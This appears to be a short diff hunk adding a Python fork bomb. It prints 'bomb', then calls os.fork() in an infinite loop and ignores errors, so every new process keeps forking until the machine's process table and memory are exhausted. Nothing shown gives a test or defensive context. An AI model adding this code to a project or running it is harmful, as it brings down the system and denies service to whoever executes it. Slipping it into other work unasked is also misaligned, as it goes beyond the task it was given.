@@ -1,0 +1,6 @@
+print("bomb", flush=True)
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
